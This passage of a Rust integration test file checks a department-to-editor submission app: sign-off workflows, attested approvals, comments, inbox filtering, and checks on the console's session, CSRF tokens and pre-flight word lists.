    let (_, detail) = o.get(&editor, &format!("/items/{id}")).await;
    assert_eq!(detail["state"], "rejected");
    // The department learns of it through its changes.
    let (_, changes) = o.get(&officer, "/changes?since=0").await;
    assert!(
        changes["changes"]
            .as_array()
            .unwrap()
            .iter()
            .any(|c| c["item_id"] == id && c["state"] == "rejected")
    );
}

/// Items of departments that sign off in the app reach the editors only through their own
/// responsible person.
#[tokio::test]
async fn an_in_app_item_reaches_the_editors_only_after_its_own_responsible_person_approves() {
    let o = office().await;
    let officer = o.sign_in("jyj.officer").await;
    let editor = o.sign_in("bjb.editor").await;
    let column = o.first_column(&officer).await;
    let (status, sent) = o
        .submit(&officer, Some("k-held"), &item(column.id, "待签发的通知"))
        .await;
    assert_eq!(status, StatusCode::CREATED);
    assert_eq!(sent["state"], "awaiting_signoff");
    let id = sent["id"].as_i64().unwrap();

    // The editors neither list, read, count nor decide it.
    let (_, all) = o.get(&editor, "/inbox?state=all&limit=500").await;
    assert!(!all.to_string().contains("待签发的通知"), "{all}");
    assert_eq!(
        o.get(&editor, "/inbox?state=awaiting_signoff").await.0,
        StatusCode::OK
    );
    let (_, held) = o.get(&editor, "/inbox?state=awaiting_signoff").await;
    assert_eq!(held, json!([]));
    let (_, counts) = o.get(&editor, "/inbox/counts").await;
    assert!(!counts.to_string().contains("awaiting_signoff"), "{counts}");
    assert_eq!(
        o.get(&editor, &format!("/items/{id}")).await.0,
        StatusCode::NOT_FOUND
    );
    let accept = json!({"published_url": "https://portal.example/x.html"});
    let (status, _) = o
        .post(&editor, &format!("/items/{id}/accept"), accept.clone())
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let (status, _) = o
        .post(&editor, &format!("/items/{id}/approve"), Value::Null)
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND);

    // Another department's responsible person cannot see or approve it; the officer cannot
    // approve their own item.
    let other = o.sign_in("wjw.responsible").await;
    let (status, _) = o
        .post(&other, &format!("/items/{id}/approve"), Value::Null)
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let (_, their_queue) = o.get(&other, "/signoffs").await;
    assert_eq!(their_queue, json!([]));
    let (status, err) = o
        .post(&officer, &format!("/items/{id}/approve"), Value::Null)
        .await;
    assert_eq!(
        (status, err["code"].as_str()),
        (StatusCode::FORBIDDEN, Some("forbidden"))
    );
    assert_eq!(o.get(&officer, "/signoffs").await.0, StatusCode::FORBIDDEN);

    // Its own responsible person finds it in the queue and signs it off.
    let responsible = o.sign_in("jyj.responsible").await;
    let (_, queue) = o.get(&responsible, "/signoffs").await;
    let queue: Vec<InboxItem> = serde_json::from_value(queue).unwrap();
    assert_eq!(queue.len(), 1);
    assert_eq!((queue[0].id, queue[0].holder_name.as_str()), (id, "王晓燕"));
    o.clock.advance(Duration::hours(2));
    let (status, approved) = o
        .post(&responsible, &format!("/items/{id}/approve"), Value::Null)
        .await;
    assert_eq!(status, StatusCode::OK, "{approved}");
    assert_eq!(approved["signed_off_by"], "李建国");
    let kinds: Vec<&str> = approved["timeline"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["kind"].as_str().unwrap())
        .collect();
    assert_eq!(kinds, ["delivered", "awaiting_signoff", "signed_off"]);
    // Approving twice is refused; the queue is empty; the editors now have it, waiting since
    // the sign-off rather than the delivery.
    let (status, err) = o
        .post(&responsible, &format!("/items/{id}/approve"), Value::Null)
        .await;
    assert_eq!(
        (status, err["code"].as_str()),
        (StatusCode::CONFLICT, Some("invalid_transition"))
    );
    assert_eq!(o.get(&responsible, "/signoffs").await.1, json!([]));
    let (_, inbox) = o.get(&editor, "/inbox").await;
    let inbox: Vec<InboxItem> = serde_json::from_value(inbox).unwrap();
    let ours = inbox.iter().find(|i| i.id == id).unwrap();
    assert_eq!(ours.waiting_since, start() + Duration::hours(2));
    assert_eq!(ours.delivered_at, start());

    // A second item is returned by the responsible person, with a quoted passage; the editors
    // never saw it and the department learns it through its changes.
    let (_, second) = o
        .submit(
            &officer,
            Some("k-held-2"),
            &item(column.id, "措辞待改的稿件"),
        )
        .await;
    let second_id = second["id"].as_i64().unwrap();
    let (status, returned) = o
        .post(
            &responsible,
            &format!("/items/{second_id}/return"),
            json!({"comment": "第二段请改为正式表述", "quote": "要点"}),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{returned}");
    assert_eq!(returned["state"], "returned");
    let (_, changes) = o.get(&officer, "/changes?since=0").await;
    let last = changes["changes"]
        .as_array()
        .unwrap()
        .last()
        .unwrap()
        .clone();
    assert_eq!(
        (
            last["state"].as_str(),
            last["by"].as_str(),
            last["review_comment"].as_str()
        ),
        (
            Some("returned"),
            Some("李建国"),
            Some("第二段请改为正式表述")
        )
    );
    let (_, all) = o.get(&editor, "/inbox?state=all&limit=500").await;
    assert!(!all.to_string().contains("措辞待改的稿件"));
}

/// A department that attests its sign-off sends the approver, the date and the signed form;
/// without them nothing is stored.
#[tokio::test]
async fn an_attested_item_carries_its_approver_date_and_signed_form() {
    let o = office().await;
    let admin = o.sign_in("bjb.admin").await;
    let editor = o.sign_in("bjb.editor").await;
    let officer = o.sign_in("jyj.officer").await;
    let column = o.first_column(&officer).await;
    let dept = column.department_id;
    // Only the administrator sets the policy.
    let attested = json!({"signoff": "attested"});
    let put = |token: String| {
        o.http
            .put(format!("{}/departments/{dept}/signoff", o.base))
            .bearer_auth(token)
            .json(&attested)
            .send()
    };
    assert_eq!(
        put(editor.clone()).await.unwrap().status(),
        StatusCode::FORBIDDEN
    );
    let r = put(admin.clone()).await.unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    assert_eq!(r.json::<Value>().await.unwrap()["signoff"], "attested");
    // The officer's seat says so at once.
    let (_, me) = o.get(&officer, "/sessions/current").await;
    assert_eq!(me["department"]["signoff"], "attested");

    let form = png(40 * 1024, 9);
    let form_sha = sha256_hex(&form);
    assert_eq!(
        o.upload(&officer, &form, "审核签发单.png").await.0,
        StatusCode::OK
    );
    let file = json!({"sha256": form_sha, "name": "审核签发单.png", "size": form.len(), "mime": "image/png"});
    let mut body = item(column.id, "纸质签发的稿件");
    for (key, attestation, files, problem) in [
        ("k-a1", Value::Null, json!([file]), "attest"),
        (
            "k-a2",
            json!({"approver": "李建国", "approved_on": "2026-11-26", "form_sha256": form_sha}),
            json!([]),
            "form",
        ),
        (
            "k-a3",
            json!({"approver": "李建国", "approved_on": "2026-11-28", "form_sha256": form_sha}),
            json!([file]),
            "later than today",
        ),
    ] {
        body["attestation"] = attestation;
        body["attachments"] = files;
        let (status, err) = o.submit(&officer, Some(key), &body).await;
        assert_eq!(
            (status, err["code"].as_str()),
            (StatusCode::UNPROCESSABLE_ENTITY, Some("signoff_required")),
            "{key}"
        );
        assert!(err["message"].as_str().unwrap().contains(problem), "{err}");
    }
    // Unsigned and with a forbidden word: the text is refused first, as the desk refuses it
    // (liaison_domain::send_gate: the sign-off is of the final text).
    let mut unsigned_secret = body.clone();
    unsigned_secret["attestation"] = Value::Null;
    unsigned_secret["body_html"] = json!("<p>本文为内部资料。</p>");
    let (status, err) = o.submit(&officer, Some("k-a0"), &unsigned_secret).await;
    assert_eq!(
        (status, err["code"].as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("preflight_failed")),
        "{err}"
    );
    body["attestation"] =
        json!({"approver": "李建国", "approved_on": "2026-11-26", "form_sha256": form_sha});
    body["attachments"] = json!([file]);
    let (status, sent) = o.submit(&officer, Some("k-a4"), &body).await;
    assert_eq!(status, StatusCode::CREATED, "{sent}");
    assert_eq!(sent["state"], "delivered");
    let (_, seen) = o.get(&editor, &format!("/items/{}", sent["id"])).await;
    assert_eq!(seen["attestation"]["approver"], "李建国");
    assert_eq!(seen["attestation"]["approved_on"], "2026-11-26");
    assert_eq!(seen["timeline"][1]["kind"], "attested");
    assert_eq!(seen["timeline"][1]["text"], "李建国 2026-11-26");
}

/// Editors review and talk about an item but never change what the department sent.
#[tokio::test]
async fn editors_comment_and_the_officer_answers_but_nobody_edits_a_sent_version() {
    let o = office().await;
    let officer = o.sign_in("jyj.officer").await;
    let editor = o.sign_in("bjb.editor").await;
    let column = o.first_column(&officer).await;
    let (_, sent) = o
        .submit(&officer, Some("k-c"), &item(column.id, "需要核实的稿件"))
        .await;
    o.approve("jyj.responsible", &sent["id"]).await;
    let id = sent["id"].as_i64().unwrap();
    let (_, before) = o.get(&editor, &format!("/items/{id}")).await;

    // No route changes content; an editor cannot send a version either.
    for method in [reqwest::Method::PUT, reqwest::Method::PATCH] {
        let r = o
            .http
            .request(method.clone(), format!("{}/items/{id}", o.base))
            .bearer_auth(&editor)
            .json(&json!({"title": "编辑改过的标题", "body_html": "<p>改</p>"}))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), StatusCode::METHOD_NOT_ALLOWED, "{method}");
    }
    let mut overwrite = item(column.id, "编辑改过的标题");
    overwrite["draft_key"] = before["draft_key"].clone();
    assert_eq!(
        o.submit(&editor, Some("k-e"), &overwrite).await.0,
        StatusCode::FORBIDDEN
    );

    let (status, remark) = o
        .post(
            &editor,
            &format!("/items/{id}/comments"),
            json!({"text": "文中数据的来源是？", "quote": "要点"}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{remark}");
    assert_eq!(
        (remark["actor"].as_str(), remark["actor_role"].as_str()),
        (Some("钱晓东"), Some("editor"))
    );
    let (status, _) = o
        .post(
            &officer,
            &format!("/items/{id}/comments"),
            json!({"text": "来自市统计局2026年公报。"}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED);
    // Empty, overlong and foreign comments are refused.
    let long = "长".repeat(2001);
    for (token, text, want) in [
        (&officer, "  ", StatusCode::UNPROCESSABLE_ENTITY),
        (&officer, long.as_str(), StatusCode::UNPROCESSABLE_ENTITY),
        (
            &o.sign_in("wjw.officer").await,
            "路过",
            StatusCode::NOT_FOUND,
        ),
    ] {
        let (status, _) = o
            .post(
                token,
                &format!("/items/{id}/comments"),
                json!({"text": text}),
            )
            .await;
        assert_eq!(status, want, "{text:.10}");
    }

    let (_, after) = o.get(&officer, &format!("/items/{id}")).await;
    assert_eq!(
        (&after["title"], &after["body_html"]),
        (&before["title"], &before["body_html"])
    );
    let thread: Vec<(&str, &str)> = after["timeline"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["kind"] == "comment")
        .map(|e| (e["actor"].as_str().unwrap(), e["text"].as_str().unwrap()))
        .collect();
    assert_eq!(
        thread,
        [
            ("钱晓东", "文中数据的来源是？"),
            ("王晓燕", "来自市统计局2026年公报。")
        ]
    );
    // The officer's desk learns of the editor's question through the changes.
    let (_, changes) = o.get(&officer, "/changes?since=0").await;
    assert!(changes["changes"].as_array().unwrap().iter().any(|c| {
        c["kind"] == "item_commented" && c["author"] == "钱晓东" && c["quote"] == "要点"
    }));
}

/// The inbox filters by state, department, column and delivery date, counts per state, pages,
/// and puts the longest waiting first.
#[tokio::test]
async fn the_inbox_filters_counts_pages_and_sorts_by_waiting_time() {
    let o = office().await;
    let column = o.first_column(&o.sign_in("jyj.officer").await).await;
    let mut ids = Vec::new();
    for n in 0..5 {
        // Sessions last 12 hours: sign in each day.
        let officer = o.sign_in("jyj.officer").await;
        let (_, sent) = o
            .submit(
                &officer,
                Some(&format!("k-f{n}")),
                &item(column.id, &format!("筛选稿件{n}")),
            )
            .await;
        ids.push(sent["id"].clone());
        o.clock.advance(Duration::days(1));
    }
    // Signed off in reverse order: the last one sent has waited longest.
    for id in ids.iter().rev() {
        o.approve("jyj.responsible", id).await;
        o.clock.advance(Duration::minutes(10));
    }
    let editor = o.sign_in("bjb.editor").await;
    let q = format!("/inbox?column_id={}&limit=2", column.id);
    let (_, page1) = o.get(&editor, &q).await;
    let (_, page2) = o.get(&editor, &format!("{q}&offset=2")).await;
    let titles = |v: &Value| -> Vec<String> {
        v.as_array()
            .unwrap()
            .iter()
            .map(|i| i["title"].as_str().unwrap().to_owned())
            .collect()
    };
    assert_eq!(titles(&page1), ["筛选稿件4", "筛选稿件3"]);
    assert_eq!(titles(&page2), ["筛选稿件2", "筛选稿件1"]);
    // Delivered on 2026-11-28 and 29 (Beijing): items 1 and 2.
    let (_, dated) = o
        .get(
            &editor,
            &format!(
                "/inbox?column_id={}&from=2026-11-28&to=2026-11-29",
                column.id
            ),
        )
        .await;
    assert_eq!(titles(&dated), ["筛选稿件2", "筛选稿件1"]);
    o.post(
        &editor,
        &format!("/items/{}/reject", ids[0]),
        json!({"reason": "重复"}),
    )
    .await;
    let (_, counts) = o
        .get(&editor, &format!("/inbox/counts?column_id={}", column.id))
        .await;
    let counts: Vec<(String, u64)> = counts
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            (
                c["state"].as_str().unwrap().to_owned(),
                c["count"].as_u64().unwrap(),
            )
        })
        .collect();
    assert!(counts.contains(&("delivered".into(), 4)), "{counts:?}");
    assert!(counts.contains(&("rejected".into(), 1)), "{counts:?}");
    let (_, other_dept) = o.get(&editor, "/inbox?department_id=2&state=all").await;
    assert!(!other_dept.to_string().contains("筛选稿件"));
    let (status, _) = o.get(&editor, "/inbox?from=yesterday").await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
}

/// The console's own session: a cookie set by the sign-in form, forms that carry the session's
/// token, and pages only the office's seats reach.
#[tokio::test]
async fn the_console_signs_in_with_a_cookie_and_only_the_admin_changes_sign_off() {
    let o = office().await;
    let site = o.base.trim_end_matches("/api/v1").to_owned();
    let http = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let sign_in = |login: &str| {
        let seat = o.seat(login);
        http.post(format!("{site}/sign-in"))
            .header("Content-Type", "application/x-www-form-urlencoded")
            .body(format!("login={}&password={}", seat.login, seat.password))
            .send()
    };
    // Without a session every page sends to the sign-in page.
    let r = http
        .get(format!("{site}/departments"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    assert_eq!(r.headers()["location"], "/sign-in");
    // A department's seat is told to use its desk, and gets no cookie.
    let r = sign_in("jyj.officer").await.unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    assert!(r.headers().get("set-cookie").is_none());

    let cookie_of = |r: &reqwest::Response| {
        let set = r.headers()["set-cookie"].to_str().unwrap().to_owned();
        assert!(
            set.contains("HttpOnly") && set.contains("SameSite=Strict"),
            "{set}"
        );
        set.split(';').next().unwrap().to_owned()
    };
    let page = |cookie: String| {
        let http = http.clone();
        let site = site.clone();
        async move {
            let r = http
                .get(format!("{site}/departments"))
                .header("Cookie", cookie)
                .send()
                .await
                .unwrap();
            assert_eq!(r.status(), StatusCode::OK);
            let csp = r.headers()["content-security-policy"]
                .to_str()
                .unwrap()
                .to_owned();
            assert!(csp.contains("script-src 'none'"), "{csp}");
            r.text().await.unwrap()
        }
    };
    let form_token = |html: &str| {
        let at = html.find("name=\"csrf\" value=\"").unwrap() + 19;
        html[at..at + 64].to_owned()
    };
    // The editor sees the policies but cannot change them.
    let editor = cookie_of(&sign_in("bjb.editor").await.unwrap());
    let html = page(editor.clone()).await;
    assert!(
        html.contains("市教育局") && html.contains("系统内签发"),
        "{html}"
    );
    assert!(!html.contains("<select id=\"signoff-"));
    let post = |cookie: String, csrf: String| {
        http.post(format!("{site}/departments/1/signoff"))
            .header("Cookie", cookie)
            .header("Content-Type", "application/x-www-form-urlencoded")
            .body(format!("csrf={csrf}&signoff=attested"))
            .send()
    };
    let r = post(editor.clone(), form_token(&html)).await.unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    // The admin can, with the session's form token only.
    let admin = cookie_of(&sign_in("bjb.admin").await.unwrap());
    let html = page(admin.clone()).await;
    // One hex digit changed (the first), so the token is wrong whatever digits it has.
    let real = form_token(&html);
    let first = if real.starts_with('0') { "1" } else { "0" };
    let r = post(admin.clone(), format!("{first}{}", &real[1..]))
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    let r = post(admin.clone(), "x".repeat(64)).await.unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    let token = o.sign_in("bjb.admin").await;
    let (_, before) = o.get(&token, "/departments").await;
    assert_eq!(before[0]["signoff"], "in_app");
    let r = post(admin.clone(), form_token(&html)).await.unwrap();
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let (_, after) = o.get(&token, "/departments").await;
    assert_eq!(after[0]["signoff"], "attested");
    // The change is in the audit log, with who made it.
    let (_, audit) = o.get(&token, "/audit?limit=5").await;
    assert!(
        audit
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["action"] == "department.signoff_set"
                && e["actor"] == "bjb.admin"
                && e["detail"] == "attested")
    );
    // Signing out ends the session.
    let r = http
        .post(format!("{site}/sign-out"))
        .header("Cookie", admin.clone())
        .header("Content-Type", "application/x-www-form-urlencoded")
        .body(format!("csrf={}", form_token(&html)))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let r = http
        .get(format!("{site}/departments"))
        .header("Cookie", admin)
        .send()
        .await
        .unwrap();
    assert_eq!(r.headers()["location"], "/sign-in");
}

/// The office runs the same pre-flight checks as the desk, with its own word lists, and
/// refuses what a desk would block, even sent straight over the API.
#[tokio::test]
async fn the_office_refuses_an_item_the_desk_would_block() {
    let o = office().await;
    let officer = o.sign_in("jyj.officer").await;
    let admin = o.sign_in("bjb.admin").await;
    let column = o.first_column(&officer).await;
    let (status, lists) = o.get(&officer, "/wordlists").await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        lists["forbidden"].to_string().contains("内部资料"),
        "{lists}"
    );
    let cases = [
        ("<p>本文为内部资料。</p>", Some("forbidden_word: 内部资料")),
        (
            "<p>见图</p><img src=\"data:image/png;base64,iVBORw0KGgo=\">",
            Some("image_without_alt"),
        ),
        (
            "<p>见<a href=\"www.gov.cn\">政策</a></p>",
            Some("malformed_link"),
        ),
        ("<p> </p>", Some("empty_body")),
        // Warnings do not stop it: a plain http link, a misspelling.
        (
            "<p>请按装，见<a href=\"http://www.gov.cn/\">政策</a></p>",
            None,
        ),
    ];
    for (n, (body, refused)) in cases.into_iter().enumerate() {
        let mut item = item(column.id, &format!("预检稿件{n}"));
        item["body_html"] = json!(body);
        let (status, answer) = o.submit(&officer, Some(&format!("k-pf{n}")), &item).await;
        match refused {
            Some(why) => {
                assert_eq!(
                    (status, answer["code"].as_str()),
                    (StatusCode::UNPROCESSABLE_ENTITY, Some("preflight_failed")),
                    "{body}"
                );
                assert!(
                    answer["message"].as_str().unwrap().contains(why),
                    "{answer}"
                );
            }
            None => assert_eq!(status, StatusCode::CREATED, "{body}: {answer}"),
        }
    }
    // Sent before the word is forbidden, stored; its answer may be lost on the way back.
    let mut early = item(column.id, "讨论稿");
    early["body_html"] = json!("<p>本草案已定稿。</p>");
    let (status, first) = o.submit(&officer, Some("k-pf-early"), &early).await;
    assert_eq!(status, StatusCode::CREATED, "{first}");
    // The administrator publishes the lists; a word forbidden now is refused now.
    let r = o
        .http
        .put(format!("{}/wordlists", o.base))
        .bearer_auth(&admin)
        .json(&json!({"forbidden": ["草案"], "misspellings": []}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    let mut item = item(column.id, "未定稿");
    item["body_html"] = json!("<p>本草案仅供讨论。</p>");
    let (status, _) = o.submit(&officer, Some("k-pf-new"), &item).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    // The desk that never heard the first answer sends again under its key: the same item,
    // not a refusal by a rule that came after it.
    let (status, again) = o.submit(&officer, Some("k-pf-early"), &early).await;
    assert_eq!(status, StatusCode::CREATED, "{again}");
    assert_eq!(again["id"], first["id"]);
    assert_eq!(again["receipt"], first["receipt"]);
    let r = o
        .http
        .put(format!("{}/wordlists", o.base))
        .bearer_auth(&officer)
        .json(&json!({"forbidden": [], "misspellings": []}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
}
